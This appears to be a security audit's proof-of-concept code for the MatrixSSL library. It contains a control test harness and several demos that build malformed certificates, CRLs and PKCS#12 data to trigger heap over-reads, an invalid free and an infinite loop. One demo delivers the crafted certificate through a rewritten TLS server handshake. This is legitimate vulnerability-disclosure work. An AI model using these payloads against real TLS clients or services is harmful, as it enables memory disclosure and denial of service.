    unsigned char *b;
    snprintf(path, sizeof path, "%s/%s", dir, name);
    f = fopen(path, "rb");
    if (!f) { printf("cannot open %s\n", path); exit(9); }
    b = malloc(1 << 20);
    *n = fread(b, 1, 1 << 20, f);
    fclose(f);
    b = realloc(b, *n ? *n : 1);      /* exact size */
    return b;
}

static int c_cert_rich(void)
{
    size_t n; unsigned char *b = slurp("rich.pem", &n);
    psX509Cert_t *c = NULL; char *url; uint32_t ul; int ok;
    int rc = psX509ParseCertData(NULL, b, n, &c, CERT_STORE_UNPARSED_BUFFER | CERT_STORE_DN_BUFFER);
    ok = rc == 1 && c && c->parseStatus == PS_X509_PARSE_SUCCESS
        && psX509GetNumDomainComponents(&c->subject) == 1
        && c->subject.commonName && !strcmp(c->subject.commonName, "rich.example.com")
        && psX509GetCRLdistURL(c, &url, &ul) == PS_TRUE && ul == 28 && !memcmp(url, "http://crl.example.com/a.crl", 28)
        && c->extensions.san != NULL;
    psX509FreeCert(c);
    return ok;
}
static int c_cert_rich_der(void)
{
    size_t n; unsigned char *b = slurp("cert_rich.der", &n);
    psX509Cert_t *c = NULL;
    int rc = psX509ParseCert(NULL, b, n, &c, 0);
    int ok = rc == (int) n && c->parseStatus == PS_X509_PARSE_SUCCESS;
    psX509FreeCert(c);
    return ok;
}
static int c_cert_uid(void)
{
    size_t n; unsigned char *b = slurp("cert_uid_ok.der", &n);
    psX509Cert_t *c = NULL;
    int rc = psX509ParseCert(NULL, b, n, &c, 0);
    int ok = rc == (int) n && c->uniqueIssuerIdLen == 4 && !memcmp(c->uniqueIssuerId, "\x01\x02\x03\x04", 4)
        && c->uniqueSubjectIdLen == 3 && !memcmp(c->uniqueSubjectId, "\x09\x08\x07", 3)
        && c->parseStatus == PS_X509_PARSE_SUCCESS;
    psX509FreeCert(c);
    return ok;
}
static int c_cert_plain(void)
{
    size_t n; unsigned char *b = slurp("cert_256_EC.der", &n);
    psX509Cert_t *c = NULL;
    int rc = psX509ParseCert(NULL, b, n, &c, 0);
    int ok = rc == (int) n && c->parseStatus == PS_X509_PARSE_SUCCESS;
    psX509FreeCert(c);
    return ok;
}
static int c_crl(void)
{
    size_t n; unsigned char *b = slurp("crl.der", &n);
    psX509Crl_t *crl = NULL;
    int rc = psX509ParseCRL(NULL, &crl, b, (int32) n);
    int ok = rc == PS_SUCCESS && crl->nextUpdate && strlen(crl->nextUpdate) == 13 && crl->revoked != NULL;
    if (rc >= 0) psX509FreeCRL(crl);
    return ok;
}
static int c_crl_nonext(void)
{
    size_t n; unsigned char *b = slurp("crl_nonext.der", &n);
    psX509Crl_t *crl = NULL;
    int rc = psX509ParseCRL(NULL, &crl, b, (int32) n);
    int ok = rc == PS_SUCCESS && crl->nextUpdate == NULL && crl->revoked != NULL;
    if (rc >= 0) psX509FreeCRL(crl);
    return ok;
}
static int pub(const char *f, int type)
{
    size_t n; unsigned char *b = slurp(f, &n);
    psPubKey_t k; int rc, ok;
    memset(&k, 0, sizeof k);
    rc = psParseUnknownPubKeyMem(NULL, b, (int32) n, NULL, &k);
    ok = rc == PS_SUCCESS && k.type == type;
    if (ok && type == PS_RSA) ok = psRsaSize(&k.key.rsa) == 128;
    psClearPubKey(&k);
    return ok;
}
static int c_pub_ec_pem(void) { return pub("ec_pub.pem", PS_ECC); }
static int c_pub_ec_der(void) { return pub("ec_pub.der", PS_ECC); }
static int c_pub_rsa_der(void) { return pub("rsa_bitstring.der", PS_RSA); }
static int c_pubpem_bitstring(void) { return pub("bitstring_pub.pem", PS_RSA); }
static int c_pub_rsa_spki_pem(void)
{
    size_t n; unsigned char *b = slurp("rsa_pub_spki.pem", &n);
    psRsaKey_t k; int rc, ok;
    memset(&k, 0, sizeof k);
    rc = psRsaParsePubKeyMem(NULL, b, n, NULL, &k);
    ok = rc == PS_SUCCESS && psRsaSize(&k) == 128;
    psRsaClearKey(&k);
    return ok;
}
static int p12(const char *f, const char *mac, int expect_ok)
{
    size_t n; unsigned char *b = slurp(f, &n);
    psX509Cert_t *c = NULL; psPubKey_t k; int rc, ok;
    memset(&k, 0, sizeof k);
    rc = psPkcs12ParseMem(NULL, &c, &k, b, (int32) n, 0, (unsigned char *) "c09pass", 7,
            (unsigned char *) mac, (int32) strlen(mac));
    if (expect_ok) ok = rc == PS_SUCCESS && c != NULL && k.type == PS_RSA && k.keysize == 128;
    else ok = rc == PS_AUTH_FAIL;
    psX509FreeCert(c);
    psClearPubKey(&k);
    return ok;
}
static int c_p12_3des(void) { return p12("p12_3des.p12", "c09pass", 1); }
static int c_p12_certplain(void) { return p12("p12_certplain.p12", "c09pass", 1); }
static int c_p12_badmac(void) { return p12("p12_3des.p12", "wrong", 0); }
static int p8(const char *f, const char *pass, int type)
{
    size_t n; unsigned char *b = slurp(f, &n), *copy = malloc(n);
    psPubKey_t k; int rc, ok;
    memcpy(copy, b, n);
    memset(&k, 0, sizeof k);
    rc = psParseUnknownPrivKeyMem(NULL, b, (int32) n, pass, &k);
    ok = type ? (rc == type && k.type == type) : rc < 0;
    psClearPubKey(&k);
    if (ok && type)
    {
        /* direct entry point as well */
        memset(&k, 0, sizeof k);
        rc = psPkcs8ParsePrivBin(NULL, copy, n, (char *) pass, &k);
        ok = rc >= 0 && k.type == type;
        psClearPubKey(&k);
    }
    return ok;
}
static int c_p8_ec_enc(void) { return p8("p8_ec_des3_2048.der", "c09pass", PS_ECC); }
static int c_p8_rsa_enc(void) { return p8("p8_rsa_des3_2048.der", "c09pass", PS_RSA); }
static int c_p8_ec_plain(void) { return p8("p8_ec_plain.der", NULL, PS_ECC); }
static int c_p8_wrongpass(void) { return p8("p8_ec_des3_2048.der", "nope", 0); }

static struct { const char *name; int (*fn)(void); } cases[] = {
    { "cert_rich_pem(DC,crlDist,SAN)", c_cert_rich }, { "cert_rich_der", c_cert_rich_der },
    { "cert_uniqueIDs", c_cert_uid }, { "cert_plain", c_cert_plain },
    { "crl", c_crl }, { "crl_without_nextUpdate", c_crl_nonext },
    { "pub_ec_pem", c_pub_ec_pem }, { "pub_ec_der", c_pub_ec_der }, { "pub_rsa_bitstring_der", c_pub_rsa_der },
    { "pubpem_bitstring", c_pubpem_bitstring }, { "pub_rsa_spki_pem(psRsaParsePubKeyMem)", c_pub_rsa_spki_pem },
    { "p12_3des", c_p12_3des }, { "p12_certplain", c_p12_certplain },
    { "p12_wrong_mac_password", c_p12_badmac },
    { "p8_ec_pbes2_3des", c_p8_ec_enc }, { "p8_rsa_pbes2_3des", c_p8_rsa_enc },
    { "p8_ec_plain", c_p8_ec_plain }, { "p8_wrong_password", c_p8_wrongpass },
};

int main(int argc, char **argv)
{
    unsigned i, ok = 0, tot = 0;
    dir = argc > 1 ? argv[1] : "data";
    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0) return 2;
    for (i = 0; i < sizeof cases / sizeof cases[0]; i++)
    {
        pid_t pid;
        int st = 0;
        if (argc > 2 && strstr(argv[2], cases[i].name)) { printf("  skip %s\n", cases[i].name); continue; }
        tot++;
        pid = fork();
        if (pid == 0) { _exit(cases[i].fn() ? 0 : 1); }
        waitpid(pid, &st, 0);
        if (WIFEXITED(st) && WEXITSTATUS(st) == 0) { ok++; printf("  ok   %s\n", cases[i].name); }
        else printf("  FAIL %s (status 0x%x)\n", cases[i].name, st);
    }
    matrixSslClose();
    printf("CONTROL: %u/%u ok\n", ok, tot);
    return ok == tot ? 0 : 1;
}
