/* demo4: psParseUnknownPubKeyMem (crypto/pubkey/pubkey_parse_mem.c) calls
 * free() on a pointer into the MIDDLE of a heap block.
 *
 *     rc = psPemTryDecode(pool, keyBuf, keyBufLen, PEM_TYPE_PUBLIC_KEY, password,
 *                         &data, &data_len);             // data = psMalloc'd DER
 *     ...
 *     rc = psRsaParseAsnPubKey(pool, (const unsigned char **)&data, data_len, ...);
 *     ...
 *     if (mustFreeData) psFree(data, pool);
 *
 * psRsaParseAsnPubKey advances *pp past what it parsed on success, i.e. it
 * moves `data` itself.  For a "-----BEGIN PUBLIC KEY-----" PEM whose body is
 * the bare RSA  BIT STRING { SEQUENCE { n, e } }  (the form this function's
 * RSA branch accepts) the RSA parse succeeds, `data` now points to the end of
 * the decoded buffer, and that interior pointer is handed to free().
 *
 * All malloc/free references of the library are routed through memtrack.c
 * (-Wl,--wrap=...), which reports a free() of an address inside a live block.
 */
#include "common.h"
#include "matrixssl/matrixsslApi.h"

extern int memtrack_enabled;

/* base64 of: 03 81 8d 00 30 81 89 02 81 81 00 <n of testkeys/RSA/1024_RSA_KEY.pem> 02 03 01 00 01 */
static const char pem[] =
    "-----BEGIN PUBLIC KEY-----\n"
    "A4GNADCBiQKBgQCrSvuFyxfOeYFTaoA+KAiHCAqIU70jlyIRjlLZ/LWZbl1cpE30cKKIYcWqY+aa\n"
    "9/SMBKa7doOqQcImlM2dVQB/4f/7vYV3tGkYfqlIoyEnT3qdMsO2mzlouHYQuoSG0ewBzMofwUpa\n"
    "uSCZjTnzrl0RfCMnUpVSXIkAionq0MJFfwIDAQAB\n"
    "-----END PUBLIC KEY-----\n";

static void on_abort(int sig)
{
    static const char m[] =
        "VIOLATION: the C library aborted inside psParseUnknownPubKeyMem (free() of an invalid pointer)\n";
    (void) sig;
    if (write(1, m, sizeof m - 1) < 0) { }
    _exit(1);
}

int main(void)
{
    psPubKey_t key;
    int32_t rc;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0) { printf("matrixSslOpen failed\n"); return 2; }
    signal(SIGABRT, on_abort);
    memset(&key, 0, sizeof key);
    memtrack_enabled = 1;

    printf("calling psParseUnknownPubKeyMem on a %u-byte PEM public key\n", (unsigned) strlen(pem));
    rc = psParseUnknownPubKeyMem(NULL, (const unsigned char *) pem, (int32) strlen(pem), NULL, &key);
    printf("psParseUnknownPubKeyMem returned %d (key type %d)\n", (int) rc, (int) key.type);
    psClearPubKey(&key);
    memtrack_enabled = 0;
    matrixSslClose();
    printf("OK: no violation observed\n");
    return 0;
}
