/* demo1_tls: the defect of demo1 (psX509GetDNAttributes, domainComponent OID with no
 * value) reached over the wire: a TLS 1.2 server answers a MatrixSSL client's
 * ClientHello with a genuine ServerHello followed by a Certificate message
 * that carries the 62-byte certificate of demo1.  The client parses it while
 * processing the handshake message and reads ~64 KB past the end of its
 * receive buffer.  No key, no valid signature and no CA is needed: the
 * over-read happens in the parser, before any validation.
 *
 * The "malicious server" is a real in-memory MatrixSSL server session whose
 * first flight is rewritten: everything up to the Certificate message is kept,
 * the Certificate body is replaced.
 *
 * All heap blocks of the process are guard-page backed (efence.c) so the
 * over-read of the client's input buffer is observable.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

extern int efence_on;
extern const char *efence_context;
void efence_install(void);

static const unsigned char evil_cert[] = {
    0x30, 0x3c, 0x30, 0x3a, 0xa0, 0x03, 0x02, 0x01, 0x02, 0x02, 0x01, 0x01,
    0x30, 0x0a, 0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x04, 0x03, 0x02,
    0x30, 0x10, 0x31, 0x0e, 0x30, 0x0c,
    0x06, 0x0a, 0x09, 0x92, 0x26, 0x89, 0x93, 0xf2, 0x2c, 0x64, 0x01, 0x19, /* domainComponent, no value */
    0x0c, 0x82, 0xff, 0xff,                                                 /* "UTF8String, 65535 bytes" */
    'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A'
};

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

int main(void)
{
    sslKeys_t *skeys = NULL, *ckeys = NULL;
    ssl_t *srv = NULL, *cli = NULL;
    sslSessOpts_t opts;
    unsigned char *buf, *rb, *pt;
    static unsigned char flight[32768], out[32768];
    int32 len, rc;
    uint32 ptlen;
    size_t flen, i, olen = 0;
    int done = 0;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0) { printf("matrixSslOpen failed\n"); return 2; }
    efence_install();
    efence_on = 1;
    efence_context = "setup";

    if (matrixSslNewKeys(&skeys, NULL) < 0 || matrixSslNewKeys(&ckeys, NULL) < 0) return 2;
    if (matrixSslLoadRsaKeysMem(skeys, RSA2048, sizeof RSA2048, RSA2048KEY, sizeof RSA2048KEY, NULL, 0) < 0)
    {
        printf("server key load failed\n"); return 2;
    }
    if (matrixSslLoadRsaKeysMem(ckeys, NULL, 0, NULL, 0, RSA2048CA, sizeof RSA2048CA) < 0)
    {
        printf("client CA load failed\n"); return 2;
    }
    memset(&opts, 0, sizeof opts);
    opts.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&srv, skeys, NULL, &opts) < 0) { printf("server session failed\n"); return 2; }
    memset(&opts, 0, sizeof opts);
    opts.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewClientSession(&cli, ckeys, NULL, NULL, 0, certCb, "localhost", NULL, NULL, &opts) < 0)
    {
        printf("client session failed\n"); return 2;
    }

    /* ClientHello: client -> server */
    len = matrixSslGetOutdata(cli, &buf);
    if (len <= 0) { printf("no ClientHello\n"); return 2; }
    {
        int32 room = matrixSslGetReadbufOfSize(srv, len, &rb);
        if (room < len) { printf("server readbuf too small\n"); return 2; }
        memcpy(rb, buf, len);
    }
    matrixSslSentData(cli, len);
    rc = matrixSslReceivedData(srv, len, &pt, &ptlen);
    if (rc != MATRIXSSL_REQUEST_SEND) { printf("server did not answer the ClientHello (rc %d)\n", (int) rc); return 2; }
    len = matrixSslGetOutdata(srv, &buf);
    if (len <= 0 || (size_t) len > sizeof flight) { printf("bad server flight\n"); return 2; }
    memcpy(flight, buf, len);
    flen = (size_t) len;
    printf("genuine server flight: %u bytes\n", (unsigned) flen);

    /* Rewrite: keep the handshake messages before Certificate, replace Certificate */
    for (i = 0; i + 5 <= flen && !done; )
    {
        size_t rlen = (flight[i + 3] << 8) | flight[i + 4], j, keep = 0;
        unsigned char *rec = flight + i + 5;
        if (flight[i] != 22 || i + 5 + rlen > flen) { printf("unexpected record\n"); return 2; }
        for (j = 0; j + 4 <= rlen; )
        {
            size_t hlen = (rec[j + 1] << 16) | (rec[j + 2] << 8) | rec[j + 3];
            if (rec[j] == 11) { done = 1; break; }      /* Certificate */
            j += 4 + hlen;
            keep = j;
        }
        /* new record: kept messages (+ evil Certificate if this is where it was) */
        {
            size_t body = keep + (done ? 4 + 3 + 3 + sizeof evil_cert : 0);
            unsigned char *o = out + olen;
            o[0] = 22; o[1] = flight[i + 1]; o[2] = flight[i + 2];
            o[3] = (unsigned char) (body >> 8); o[4] = (unsigned char) body;
            memcpy(o + 5, rec, keep);
            if (done)
            {
                unsigned char *c = o + 5 + keep;
                size_t listlen = 3 + sizeof evil_cert;
                c[0] = 11; c[1] = 0; c[2] = (unsigned char) ((listlen + 3) >> 8); c[3] = (unsigned char) (listlen + 3);
                c[4] = 0; c[5] = (unsigned char) (listlen >> 8); c[6] = (unsigned char) listlen;
                c[7] = 0; c[8] = 0; c[9] = (unsigned char) sizeof evil_cert;
                memcpy(c + 10, evil_cert, sizeof evil_cert);
            }
            if (body > 0) olen += 5 + body;
        }
        i += 5 + rlen;
    }
    if (!done) { printf("no Certificate message in the server flight\n"); return 2; }
    printf("rewritten flight: %u bytes (ServerHello + Certificate{62-byte certificate})\n", (unsigned) olen);

    /* malicious flight: "server" -> client */
    {
        int32 room = matrixSslGetReadbufOfSize(cli, (int32) olen, &rb);
        if (room < (int32) olen) { printf("client readbuf too small\n"); return 2; }
        memcpy(rb, out, olen);
    }
    efence_context = "MatrixSSL client processing the server's Certificate message (matrixSslReceivedData)";
    rc = matrixSslReceivedData(cli, (int32) olen, &pt, &ptlen);
    efence_context = "teardown";
    printf("client matrixSslReceivedData returned %d without faulting\n", (int) rc);

    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(skeys);
    matrixSslDeleteKeys(ckeys);
    matrixSslClose();
    printf("OK: no violation observed\n");
    return 0;
}
