/* demo5 (extra, not one of the four listed findings): pkcs12pbe
 * (crypto/keyformat/pkcs.c) never terminates for a zero-length salt.
 *
 *     for (i = 0; i < 64; )
 *     {
 *         if ((64 - i) < saltLen) { Memcpy(&saltpass[i], salt, 64 - i); i = 64; }
 *         else                    { Memcpy(&saltpass[i], salt, saltLen); i += saltLen; }
 *     }
 *
 * psPkcs12ParseMem accepts any macSalt of 0..20 bytes ("if (tmplen > 20) fail")
 * and passes its length here; with  macSalt OCTET STRING ''  i never advances.
 * No password has to be known: the 66-byte PFX below has an empty
 * AuthenticatedSafe, the MAC key derivation runs before anything is compared.
 *
 * The call is given 10 s of CPU time (ITIMER_VIRTUAL); an honest PKCS#12 file
 * with iteration count 1 takes microseconds.
 */
#include "common.h"
#include <sys/time.h>
#include "matrixssl/matrixsslApi.h"

static void on_timer(int sig)
{
    static const char m[] =
        "VIOLATION: psPkcs12ParseMem did not return after 10 s of CPU time on a 66-byte input (infinite loop in pkcs12pbe)\n";
    (void) sig;
    if (write(1, m, sizeof m - 1) < 0) { }
    _exit(1);
}

int main(void)
{
    static der_t d;
    static const unsigned char ver3[] = { 0x02, 0x01, 0x03 };
    static const unsigned char oid_data[] = { 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x01 };
    static const unsigned char empty_seq[] = { 0x30, 0x00 };
    static const unsigned char alg_sha1[] = { 0x30, 0x09, 0x06, 0x05, 0x2b, 0x0e, 0x03, 0x02, 0x1a, 0x05, 0x00 };
    static const unsigned char digest[] = { 0x04, 0x14, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0 };
    static const unsigned char empty_salt[] = { 0x04, 0x00 };
    static const unsigned char iter1[] = { 0x02, 0x01, 0x01 };
    size_t pfx0, ci0, c0, os0, mac0, di0;
    psX509Cert_t *cert = NULL;
    psPubKey_t key;
    struct itimerval tv;
    int32 rc;

    pfx0 = d.n;
    der_raw(&d, ver3, sizeof ver3);
    ci0 = d.n;                                  /* authSafe ContentInfo */
    der_raw(&d, oid_data, sizeof oid_data);
    c0 = d.n;
    os0 = d.n;
    der_raw(&d, empty_seq, sizeof empty_seq);   /* AuthenticatedSafe ::= SEQUENCE OF (nothing) */
    der_wrap(&d, os0, 0x04);
    der_wrap(&d, c0, 0xa0);
    der_wrap(&d, ci0, 0x30);
    mac0 = d.n;                                 /* MacData */
    di0 = d.n;
    der_raw(&d, alg_sha1, sizeof alg_sha1);
    der_raw(&d, digest, sizeof digest);
    der_wrap(&d, di0, 0x30);
    der_raw(&d, empty_salt, sizeof empty_salt); /* macSalt OCTET STRING '' */
    der_raw(&d, iter1, sizeof iter1);
    der_wrap(&d, mac0, 0x30);
    der_wrap(&d, pfx0, 0x30);

    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0) { printf("matrixSslOpen failed\n"); return 2; }
    signal(SIGVTALRM, on_timer);
    memset(&tv, 0, sizeof tv);
    tv.it_value.tv_sec = 10;
    setitimer(ITIMER_VIRTUAL, &tv, NULL);

    memset(&key, 0, sizeof key);
    printf("calling psPkcs12ParseMem on a %u-byte PFX with an empty macSalt\n", (unsigned) d.n);
    rc = psPkcs12ParseMem(NULL, &cert, &key, d.b, (int32) d.n, 0,
            (unsigned char *) "x", 1, (unsigned char *) "x", 1);
    printf("psPkcs12ParseMem returned %d\n", (int) rc);
    psX509FreeCert(cert);
    psClearPubKey(&key);
    matrixSslClose();
    printf("OK: no violation observed\n");
    return 0;
}
