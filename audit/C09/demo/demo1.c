/* demo1: psX509GetDNAttributes (crypto/keyformat/x509.c) reads up to 64 KB past
 * the end of the certificate.
 *
 * When an AttributeTypeAndValue carries the 10-byte domainComponent OID
 * (0.9.2342.19200300.100.1.25) the code does `p += 10; goto oid_parsing_done;`
 * and then `stringType = *p++` and
 *     getAsnLength(&p, (uint32)(dnEnd - p), &llen) / (uint32)(dnEnd - p) < llen
 * without checking that anything is left in the Name.  If the OID is the last
 * thing in the Name, p is now dnEnd+1, (uint32)(dnEnd - p) is 0xFFFFFFFF, both
 * bounds checks pass, and the value tag and length are taken from the bytes
 * FOLLOWING the Name (attacker controlled: they are still inside the
 * certificate).  Memcpy(stringOut, p, llen) then copies llen <= 65535 bytes
 * from there, far past the end of a short certificate.
 *
 * The input below is a 62 byte "certificate"; the parser is given exactly 62
 * bytes, placed at the end of a page that is followed by inaccessible pages.
 */
#include "common.h"
#include "matrixssl/matrixsslApi.h"

static const unsigned char evil_cert[] = {
    0x30, 0x3c,                                     /* Certificate */
    0x30, 0x3a,                                     /* TBSCertificate */
    0xa0, 0x03, 0x02, 0x01, 0x02,                   /* version v3 */
    0x02, 0x01, 0x01,                               /* serial 1 */
    0x30, 0x0a, 0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x04, 0x03, 0x02, /* ecdsa-with-SHA256 */
    0x30, 0x10,                                     /* issuer Name */
    0x31, 0x0e,                                     /*  RDN SET */
    0x30, 0x0c,                                     /*   AttributeTypeAndValue: only an OID */
    0x06, 0x0a, 0x09, 0x92, 0x26, 0x89, 0x93, 0xf2, 0x2c, 0x64, 0x01, 0x19, /* domainComponent */
    /* --- the Name ends here (dnEnd) --- */
    0x0c, 0x82, 0xff, 0xff,                         /* "UTF8String, length 65535" */
    'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A'
};

static int parse(const unsigned char *in, size_t n)
{
    psX509Cert_t *cert = NULL;
    int32 rc = psX509ParseCert(NULL, in, (uint32) n, &cert, 0);
    psX509FreeCert(cert);
    return (int) rc;
}

int main(void)
{
    int a, b;

    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0) { printf("matrixSslOpen failed\n"); return 2; }
    /* run A: nothing accessible after the 62 bytes */
    a = run_guarded("run A: psX509ParseCert(62-byte certificate)", evil_cert, sizeof evil_cert, 0, parse);
    /* run B: 40000 unrelated bytes happen to be mapped after the input */
    b = run_guarded("run B: psX509ParseCert(62-byte certificate, 40000 unrelated bytes follow in memory)",
                    evil_cert, sizeof evil_cert, 40000, parse);
    matrixSslClose();
    if (a || b)
    {
        printf("VIOLATION: psX509ParseCert read outside its %u-byte input (run A exit %d, run B exit %d)\n",
            (unsigned) sizeof evil_cert, a, b);
        return 1;
    }
    printf("OK: no violation observed\n");
    return 0;
}
