/* demo2: getExplicitExtensions (crypto/keyformat/x509.c), cRLDistributionPoints
 * branch, walks past the end of the Extensions and then reads up to 64 KB past
 * the end of the certificate in parseGeneralNames.
 *
 * In the loop over DistributionPoints the code reads the inner SEQUENCE header
 * and then tests the optional members with `if (*p == 0xA0)` ... without
 * checking that the DistributionPoint has any content and that p < extEnd.
 * With an EMPTY DistributionPoint that is the last thing in the Extensions
 * (extnValue = 30 02 30 00), p == extEnd, `*p` is the first byte AFTER the
 * Extensions (attacker controlled, still inside the certificate), and after
 * `p++` every later bound is computed as (uint32)(extEnd - p) = 0xFFFFFFFx,
 * so all `len` checks pass.  The bytes that follow the TBSCertificate are
 * then interpreted as  [0] { [0] { iPAddress(len 0xFFF0) } }  and
 * parseGeneralNames does Memcpy(activeName->data, p, 0xFFF0).
 */
#include "common.h"
#include "matrixssl/matrixsslApi.h"

static const unsigned char alg_ecdsa_sha256[] = {
    0x30, 0x0a, 0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x04, 0x03, 0x02
};
static const unsigned char name_cn_a[] = { /* CN=a */
    0x30, 0x0c, 0x31, 0x0a, 0x30, 0x08, 0x06, 0x03, 0x55, 0x04, 0x03, 0x0c, 0x01, 'a'
};
static const unsigned char validity[] = {
    0x30, 0x1e,
    0x17, 0x0d, '1', '7', '0', '3', '1', '6', '1', '7', '0', '7', '3', '4', 'Z',
    0x17, 0x0d, '3', '7', '0', '3', '1', '6', '1', '7', '0', '7', '3', '4', 'Z'
};
/* SubjectPublicKeyInfo of testkeys/EC/256_EC.pem (a valid P-256 point) */
static const unsigned char spki_p256[] = {
    0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01,
    0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00,
    0x04, 0x5f, 0xad, 0x62, 0x02, 0x42, 0x48, 0xba, 0xfb, 0xe2, 0x88, 0xd8, 0x7f,
    0xb9, 0x72, 0xcb, 0x28, 0xae, 0xc3, 0x8a, 0x1e, 0xc3, 0x0e, 0x9c, 0x7d, 0x7a,
    0xa4, 0xb5, 0x7f, 0xda, 0xbd, 0x46, 0x5a, 0xb9, 0x95, 0x39, 0xe0, 0x44, 0x51,
    0x71, 0xba, 0xe3, 0xb3, 0x40, 0xf2, 0x54, 0xfd, 0x23, 0x84, 0xb2, 0xea, 0x2a,
    0x84, 0xa3, 0x4f, 0xd7, 0xb0, 0x08, 0xba, 0x6e, 0x80, 0xc3, 0xeb, 0xdf, 0x2f
};
/* Extension { id-ce-cRLDistributionPoints, OCTET STRING { SEQUENCE { SEQUENCE {} } } } */
static const unsigned char ext_crldist_empty_dp[] = {
    0x30, 0x0b, 0x06, 0x03, 0x55, 0x1d, 0x1f, 0x04, 0x04, 0x30, 0x02, 0x30, 0x00
};
/* what follows the TBSCertificate instead of signatureAlgorithm/signature */
static const unsigned char tail[] = {
    0xa0, 0x82, 0xff, 0xff,     /* "distributionPoint [0], length 65535"   */
    0xa0, 0x82, 0xff, 0xf8,     /* "fullName [0], length 65528"            */
    0x87, 0x82, 0xff, 0xf0,     /* "iPAddress [7], length 65520"           */
    'B', 'B', 'B', 'B', 'B', 'B', 'B', 'B'
};

static int parse(const unsigned char *in, size_t n)
{
    psX509Cert_t *cert = NULL;
    int32 rc = psX509ParseCert(NULL, in, (uint32) n, &cert, 0);
    psX509FreeCert(cert);
    return (int) rc;
}

int main(void)
{
    static der_t d;
    size_t cert0, tbs0, exts0, seq0;
    static const unsigned char ver[] = { 0xa0, 0x03, 0x02, 0x01, 0x02 };
    static const unsigned char serial[] = { 0x02, 0x01, 0x01 };
    int a, b;

    cert0 = d.n;
    tbs0 = d.n;
    der_raw(&d, ver, sizeof ver);
    der_raw(&d, serial, sizeof serial);
    der_raw(&d, alg_ecdsa_sha256, sizeof alg_ecdsa_sha256);
    der_raw(&d, name_cn_a, sizeof name_cn_a);
    der_raw(&d, validity, sizeof validity);
    der_raw(&d, name_cn_a, sizeof name_cn_a);
    der_raw(&d, spki_p256, sizeof spki_p256);
    exts0 = d.n;
    seq0 = d.n;
    der_raw(&d, ext_crldist_empty_dp, sizeof ext_crldist_empty_dp);
    der_wrap(&d, seq0, 0x30);           /* Extensions */
    der_wrap(&d, exts0, 0xa3);          /* [3] EXPLICIT */
    der_wrap(&d, tbs0, 0x30);           /* TBSCertificate ends with the Extensions */
    der_raw(&d, tail, sizeof tail);
    der_wrap(&d, cert0, 0x30);          /* Certificate */

    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0) { printf("matrixSslOpen failed\n"); return 2; }
    printf("certificate is %u bytes\n", (unsigned) d.n);
    a = run_guarded("run A: psX509ParseCert(certificate with empty DistributionPoint)", d.b, d.n, 0, parse);
    b = run_guarded("run B: psX509ParseCert(same certificate, 40000 unrelated bytes follow in memory)",
                    d.b, d.n, 40000, parse);
    matrixSslClose();
    if (a || b)
    {
        printf("VIOLATION: psX509ParseCert read outside its %u-byte input (run A exit %d, run B exit %d)\n",
            (unsigned) d.n, a, b);
        return 1;
    }
    printf("OK: no violation observed\n");
    return 0;
}
