/* demo3: psX509ParseCRL (crypto/keyformat/crl.c) reads past the end of a CRL
 * that stops after thisUpdate.
 *
 *     if ((end - p) < 1 || ((*p == ASN_UTCTIME) || (*p == ASN_GENERALIZEDTIME)))
 *     {
 *         lcrl->nextUpdateType = timetag = *p;   p++;
 *         getAsnLength(&p, (uint32) (end - p), &timelen) ... (uint32)(end - p) < timelen
 *         lcrl->nextUpdate = psMalloc(pool, timelen + 1);
 *         Memcpy(lcrl->nextUpdate, p, timelen);
 *
 * The first test is inverted (`||` where `&&` is meant): when NOTHING is left
 * ((end - p) < 1) the branch is taken, *p is read from outside the input, and
 * after p++ the remaining size (uint32)(end - p) is 0xFFFFFFFF, so the length
 * octets are taken from outside the input as well and up to 65535 bytes from
 * beyond the input are copied into crl->nextUpdate.
 *
 * Run A: the 48-byte CRL sits exactly at the end of accessible memory.
 * Run B: the same 48 bytes are the declared input, but the memory after them
 *        (NOT part of the input) happens to contain 17 82 ff ff + 300 bytes;
 *        the fault offset shows how far past its input the parser went.
 */
#include "common.h"
#include <sys/wait.h>
#include "matrixssl/matrixsslApi.h"

static const unsigned char crl_upto_thisUpdate[] = {
    0x30, 0x2e,                                     /* CertificateList */
    0x30, 0x2c,                                     /* TBSCertList */
    0x02, 0x01, 0x01,                               /* version v2 */
    0x30, 0x0a, 0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x04, 0x03, 0x02, /* ecdsa-with-SHA256 */
    0x30, 0x0c, 0x31, 0x0a, 0x30, 0x08, 0x06, 0x03, 0x55, 0x04, 0x03, 0x0c, 0x01, 'a', /* issuer CN=a */
    0x17, 0x0d, '2', '6', '1', '0', '0', '3', '1', '4', '3', '2', '4', '7', 'Z' /* thisUpdate */
    /* nothing else: no nextUpdate, no signatureAlgorithm, no signature */
};
